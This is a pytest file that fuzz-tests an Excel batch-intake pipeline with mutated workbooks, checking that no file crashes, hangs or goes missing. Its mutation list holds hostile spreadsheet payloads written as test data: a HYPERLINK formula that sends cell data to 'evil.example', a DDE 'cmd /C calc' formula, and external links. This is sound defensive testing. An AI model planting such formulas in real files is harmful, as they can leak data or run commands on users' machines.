"""Robustness: mutated copies of a valid workbook, crashing and hanging readers.

Every file ends either parsed or rejected with a reason; the parent process is never killed,
never hangs, and a dead or stuck worker is replaced while the other files go on. The last test
sends 300 mutants (zip-level flips and truncations, XML mutations: formulas, DDE, control
characters, huge strings, DTDs; odd file names) through one ``process`` run (issue 17).
"""

from __future__ import annotations

import dataclasses
import os
import random
import re
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from helpers import stuck_file, valid_row

from danhgia_batch.intake import zip_incomplete
from danhgia_batch.issues import CATALOGUE
from danhgia_batch.ledger import open_ledger
from danhgia_batch.pipeline import process_inbox
from danhgia_batch.read import read_forms
from danhgia_batch.settings import Settings

N_MUTANTS = 300


def _members(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as z:
        return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def _write(path: Path, members: list[tuple[str, bytes]]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(name, data)


def mutate(src: Path, dst: Path, rng: random.Random) -> str:
    """One random mutation of ``src`` into ``dst``; returns its kind (for failure messages)."""
    members = _members(src)
    how = rng.choice(["flip-member", "flip-member", "drop-member", "truncate-member", "flip-raw", "truncate-raw"])
    if how in ("flip-raw", "truncate-raw"):
        raw = bytearray(src.read_bytes())
        if how == "flip-raw":
            for _ in range(rng.randint(1, 20)):
                raw[rng.randrange(len(raw))] = rng.randrange(256)
        else:
            raw = raw[: rng.randrange(len(raw))]
        dst.write_bytes(bytes(raw))
        return how
    i = rng.randrange(len(members))
    name, data = members[i]
    if how == "drop-member":
        del members[i]
    elif how == "truncate-member":
        members[i] = (name, data[: rng.randrange(max(1, len(data)))])
    else:
        buf = bytearray(data)
        for _ in range(rng.randint(1, 10)):
            if buf:
                buf[rng.randrange(len(buf))] = rng.choice([rng.randrange(256), ord("<"), ord(">"), ord('"'), ord("9")])
        members[i] = (name, bytes(buf))
    _write(dst, members)
    return f"{how}:{name}"


@pytest.mark.slow
def test_fuzzed_copies_end_parsed_or_rejected(
    fill_template: Callable[..., Path], settings: Settings, tmp_path: Path
) -> None:
    src = fill_template("02", [valid_row(person_code=f"F{i}") for i in range(10)])
    rng = random.Random(20220120)
    kinds: dict[Path, str] = {}
    for n in range(N_MUTANTS):
        dst = tmp_path / f"m{n:03d}.xlsx"
        kinds[dst] = mutate(src, dst, rng)
    fast = dataclasses.replace(settings, reader=dataclasses.replace(settings.reader, timeout_seconds=20))
    results = list(read_forms(list(kinds), fast, workers=2))
    assert sorted(r.path for r in results) == sorted(kinds)
    parsed = rejected = 0
    for form in results:
        assert all(i.code in CATALOGUE for i in form.issues)
        assert form.kind or form.errors, f"{form.path.name} ({kinds[form.path]}): neither parsed nor rejected"
        assert all(i.message for i in form.issues)
        parsed += bool(form.kind)
        rejected += bool(form.errors)
    assert parsed > 0 and rejected > 0


def test_worker_crash_is_contained_and_others_go_on(
    fill_template: Callable[..., Path], settings: Settings, tmp_path: Path
) -> None:
    """A cell at XFD1048576 with the used-range bound lifted: calamine aborts its process."""
    good = fill_template("02")
    far = tmp_path / "far.xlsx"
    members = [
        (n, d.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>'))
        if n == "xl/worksheets/sheet1.xml"
        else (n, d)
        for n, d in _members(good)
    ]
    _write(far, members)
    unbounded = dataclasses.replace(
        settings.reader, max_rows=2_000_000, max_cols=20_000, memory_mb=600, timeout_seconds=60
    )
    loose = dataclasses.replace(settings, reader=unbounded)
    results = {r.path: r for r in read_forms([far, good, far, good], loose, workers=1)}
    assert [i.code for i in results[far].issues] in (["file-reader-crash"], ["file-too-large"])
    assert results[good].errors == [] and results[good].kind == "02"
    # with the shipped limits the pre-flight rejects it before calamine sees it
    (bounded,) = read_forms([far], settings)
    assert [(i.sheet, i.code) for i in bounded.issues] == [("DanhSach", "file-too-many-cells")]


def test_million_row_sheet_does_not_hang_the_parent(
    fill_template: Callable[..., Path], settings: Settings, tmp_path: Path
) -> None:
    good = fill_template("02")
    rows = b"".join(b'<row r="%d"><c r="A%d" t="n"><v>1</v></c></row>' % (i, i) for i in range(1, 1_048_577))
    members = [
        (n, d[: d.index(b"<sheetData")] + b"<sheetData>" + rows + b"</sheetData></worksheet>")
        if n == "xl/worksheets/sheet1.xml"
        else (n, d)
        for n, d in _members(good)
    ]
    tall = tmp_path / "tall.xlsx"
    _write(tall, members)
    (form,) = read_forms([tall], settings)
    assert [i.code for i in form.issues] in (["file-too-many-cells"], ["file-too-large"])


def test_timeout_is_reported_per_file(settings: Settings, tmp_path: Path) -> None:
    hung = [stuck_file(tmp_path / f"treo{i}.xlsx") for i in range(2)]
    hasty = dataclasses.replace(settings, reader=dataclasses.replace(settings.reader, timeout_seconds=0.001))
    results = list(read_forms(hung, hasty, workers=1))
    assert [i.code for r in results for i in r.issues] == ["file-timeout", "file-timeout"]


# ---- the whole pipeline: mutated files through one `process` run (issue 17) -----------------

N_INBOX = 300
_XML_MUTATIONS: list[tuple[str, bytes, bytes]] = [  # (kind, needle, replacement) in a sheet or strings
    ("formula", b"</row>", b'<c r="Y17"><f>HYPERLINK("http://evil.example/"&amp;A1,"x")</f></c></row>'),
    ("dde", b"</row>", b"<c r=\"Z17\"><f>cmd|' /C calc'!A0</f></c></row>"),
    ("external", b"</row>", b'<c r="Z18"><f>[1]Sheet1!A1</f></c></row>'),
    ("control", b"</t>", b"_x0000__x202E__x001B_</t>"),
    ("huge-string", b"</t>", b"x" * 40_000 + b"</t>"),
    ("doctype", b"?>", b'?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>'),
    ("far-cell", b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
    ("unclosed", b"</sheetData>", b"<row><c>"),
    ("bad-number", b"<v>", b"<v>1e99999"),
    ("odd-sheet-name", b'name="DanhSach"', b'name="Danh&#x202E;Sach"'),
]
_ODD_NAMES = [
    b"TongHop_\xff\xfe.xlsx",
    b"-rf danh sach.xlsx",
    b"d\xe1\xbb\x8bch v\xe1\xbb\xa5.xlsx",  # dịch vụ, NFC
    "Danh sách nộp".encode() + b"\n2.xlsx",
    b"x" * 240 + b".xlsx",  # 249 bytes with its prefix: the archive and error names must fit
    b"DS.XLSX",
    b"bang.xls",
    b"du_lieu.csv",
    b"tab\tname.xlsx",
]


def mutate_xml(src: Path, dst: Path, rng: random.Random) -> str:
    """One XML-level mutation (formulas, DDE, control characters, huge strings, DTDs…)."""
    kind, needle, repl = rng.choice(_XML_MUTATIONS)
    members = _members(src)
    hits = [i for i, (_n, d) in enumerate(members) if needle in d]
    if not hits:
        shutil.copy(src, dst)
        return f"{kind}:no-target"
    i = rng.choice(hits)
    name, data = members[i]
    members[i] = (name, data.replace(needle, repl, 1 if rng.random() < 0.7 else -1))
    _write(dst, members)
    return f"{kind}:{name}"


def _inbox_mutants(bases: list[Path], inbox: Path, rng: random.Random) -> dict[Path, str]:
    """``N_INBOX`` mutants of ``bases`` spread over the inbox and unit folders, odd names included."""
    kinds: dict[Path, str] = {}
    for n in range(N_INBOX):
        folder = inbox / rng.choice(["", "PNV", "PTP"])
        folder.mkdir(parents=True, exist_ok=True)
        raw_name = f"m{n:03d}.xlsx".encode()
        if n % 10 == 0:
            raw_name = b"%03d_" % n + _ODD_NAMES[(n // 10) % len(_ODD_NAMES)]
        dst = Path(os.fsdecode(os.fsencode(str(folder)) + b"/" + raw_name))
        src = rng.choice(bases)
        kinds[dst] = mutate(src, dst, rng) if rng.random() < 0.55 else mutate_xml(src, dst, rng)
    return kinds


def _live_in_workbook(path: Path) -> bool:
    try:
        with zipfile.ZipFile(path) as z:
            return any(
                re.search(rb"<f[ >]", z.read(n)) or b"externalLink" in n.encode()
                for n in z.namelist()
                if n.startswith(("xl/worksheets/sheet", "xl/externalLinks"))
            )
    except zipfile.BadZipFile:
        return True


@pytest.mark.slow
def test_fuzzed_inbox_loses_nothing_and_crashes_nothing(fill_template: Callable[..., Path], settings: Settings) -> None:
    """Mutated lists, forms and registries, odd names, through one ``process_inbox`` run: it ends
    (the reader's limits bound every file), and every file is archived with its outcome, or
    still in the inbox with a recorded one (0 crashes, 0 hangs, 0 files lost)."""
    bases = [
        fill_template("02", [valid_row(person_code=f"F{i}") for i in range(5)]),
        fill_template("02", [valid_row(score=80, final_grade="A")], unit_code="PTP", unit_name="Phòng Tư pháp"),
        fill_template("01"),
    ]
    kinds = _inbox_mutants(bases, settings.inbox, random.Random(17))
    bounded = dataclasses.replace(settings.reader, timeout_seconds=30, retry_timeout_seconds=60)
    fast = dataclasses.replace(
        settings, reader=bounded, reports=dataclasses.replace(settings.reports, write_reports=False)
    )
    originals = {p: p.read_bytes() for p in kinds}

    result = process_inbox(fast)

    assert result.problem is None and result.odd == []
    by_source = {f.on_disk: f for f in result.files}
    assert sorted(map(str, by_source)) == sorted(map(str, kinds))  # one result per file
    for path, kind in kinds.items():
        f = by_source[path]
        where = f"{f.name} ({kind})"
        assert all(i.code in CATALOGUE for i in f.issues), where
        if path.exists():  # kept for a retry with its outcome recorded, or held by the settle rule
            if f.outcome == "skipped":  # a zip whose directory cannot be read looks like a copy in progress
                assert zip_incomplete(path, path.stat().st_size), where
                continue
            assert f.outcome == "failed" and f.file_id is not None, where
            continue
        assert f.outcome in ("accepted", "invalid", "rejected", "duplicate"), where
        assert f.archived and Path(f.archived).read_bytes() == originals[path], where
        if f.outcome == "rejected":
            assert f.error_files and all(Path(e).is_file() for e in f.error_files), where
            assert not _live_in_workbook(Path(f.error_files[0])), where
    held = sum(1 for f in result.files if f.outcome == "skipped")
    with open_ledger(settings) as led:
        recorded = led.files()
    assert len(recorded) == len(kinds) - held and {r.state for r in recorded} <= {"done", "failed"}
    outcomes = {f.outcome for f in result.files}
    assert {"accepted", "rejected"} <= outcomes
